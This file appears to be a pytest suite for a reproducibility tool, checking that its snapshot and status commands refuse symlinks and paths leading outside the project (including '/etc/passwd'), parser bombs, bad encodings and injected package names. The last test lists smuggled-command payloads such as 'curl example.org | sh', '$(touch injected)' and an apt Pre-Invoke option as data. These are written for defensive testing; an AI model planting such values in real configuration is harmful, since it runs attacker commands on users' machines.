"""Rows J75, J76, J77, J79 and J81 of FAULTS.md through the command that uses what it reads.

The reader's own tests (test_j75_… to test_j81_…) try every place and payload; here each kind of
place meets `repro snapshot`, which must refuse it before anything is resolved or written.
"""

from __future__ import annotations

import resource
import subprocess
import sys
from pathlib import Path

import pytest

from tests.faults.test_j76_escaping_path import KEYS
from tests.faults.test_j77_bombs import BOMBS
from tests.faults.test_j79_encodings import FILES, encoded
from tests.faults.test_j81_injected_names import toml_string
from tests.support import Answer, Cli, assert_refused
from tests.watch import faulted, watching


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    """An empty project and an empty store."""
    (tmp_path / "project").mkdir()
    (tmp_path / "cache").mkdir()
    return Cli(cache=tmp_path / "cache", folder=tmp_path / "project", secrets=("hunter2",))


def write(cli: Cli, name: str, content: str | bytes) -> Path:
    path = cli.folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


@pytest.mark.parametrize("name", ["repro.toml", "requirements.in", "apt.txt", "environment.yml"])
def test_j75_a_link_to_outside(cli: Cli, tmp_path: Path, name: str) -> None:
    outside = tmp_path / "secret"
    outside.write_text("hunter2\n")
    path = cli.folder / name
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(outside)
    faulted(cli, "snapshot", code=2, says=[name, str(outside), "copy"])


@pytest.mark.parametrize(
    ("key", "path"), zip(KEYS, ("../outside", "/etc/passwd", "link/below") * 3, strict=False)
)
def test_j76_a_path_to_outside(cli: Cli, tmp_path: Path, key: str, path: str) -> None:
    (tmp_path / "outside").mkdir()
    (cli.folder / "link").symlink_to(tmp_path / "outside")
    write(cli, "repro.toml", KEYS[key].format(path))
    faulted(cli, "snapshot", code=2, says=[f"repro.toml: {key}"])


@pytest.mark.parametrize(
    "name",
    ["huge", "many-requirements", "deep-closed", "deep-key", "backslashes", "duplicate-key",
     "alias-bomb", "alias-to-itself", "duplicate-yaml", "dvc-bomb"],
)  # fmt: skip
def test_j77_a_bomb(cli: Cli, name: str) -> None:
    """Under hard limits: two seconds of processor for start and reading, and bounded memory."""
    file, text = BOMBS[name]
    if file == "dvc.yaml":
        write(cli, "repro.toml", '[analysis]\ncommand = ["x"]\n')
    write(cli, file, text)

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (2, 2))
        resource.setrlimit(resource.RLIMIT_AS, (400 << 20, 400 << 20))

    with watching(cli) as watch:
        done = subprocess.run(
            [sys.executable, "-m", "repro", "status"],
            cwd=cli.folder,
            env=watch.env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            preexec_fn=limited,
            check=False,
        )
        answer = Answer(code=done.returncode, out=done.stdout, err=done.stderr)
        watch.said(answer.out + answer.err)
        assert_refused(answer, 2, file)


@pytest.mark.parametrize(
    ("name", "fault"),
    [("repro.toml", "latin-1"), ("requirements.in", "bom"), ("apt.txt", "utf-16"),
     (".python-version", "surrogate"), ("requirements.in", "nul")],
)  # fmt: skip
def test_j79_an_encoding(cli: Cli, name: str, fault: str) -> None:
    data, offset = encoded(FILES[name])[fault]
    write(cli, name, data)
    faulted(cli, "snapshot", code=2, says=[f"{name}: ", f"at byte {offset}", "UTF-8"])


@pytest.mark.parametrize(
    ("place", "payload"),
    [
        ("repro.toml", "numpy\nRUN curl example.org | sh"),
        ("repro.toml", "$(touch injected)"),
        ("repro.toml", "numpy\x1b[2J"),
        ("requirements.in", "--install-option=x"),
        ("requirements.in", "numpy; RUN id"),
        ("requirements.in", "../numpy"),
        ("apt.txt", "-o=APT::Update::Pre-Invoke::=id"),
        ("apt.txt", "`touch injected`"),
    ],
)
def test_j81_an_injected_name(cli: Cli, place: str, payload: str) -> None:
    if place == "repro.toml":
        write(cli, place, f"[environment]\napt = [{toml_string(payload)}]\n")
    else:
        write(cli, place, f"six\n{payload}\n")
    faulted(cli, "snapshot", code=2, says=[place])
